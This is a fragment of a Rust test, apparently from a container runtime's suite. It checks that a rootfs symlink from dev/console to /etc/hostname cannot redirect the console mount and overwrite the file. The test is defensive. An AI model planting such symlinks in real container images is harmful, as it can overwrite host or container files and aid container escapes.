    symlink("/etc/hostname", b.rootfs().join("dev/console")).expect("console link");
    b.config["process"]["terminal"] = json!(true);
    b.write();
    let id = unique("con");
    let (code, _, err) = rt.out(&[
        "run",
        "--console-socket",
        sock.to_str().expect("utf-8"),
        "--bundle",
        b.path().to_str().expect("utf-8"),
        &id,
    ]);
    let out = reader.join().expect("reader");
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out, "character special file 88\nregular file\nto-console\n",
        "the pty (major 136) is /dev/console, /etc/hostname is untouched"
    );
    assert_eq!(
        std::fs::read_to_string(b.rootfs().join("etc/hostname")).expect("hostname"),
        "busybox\n"
    );
}
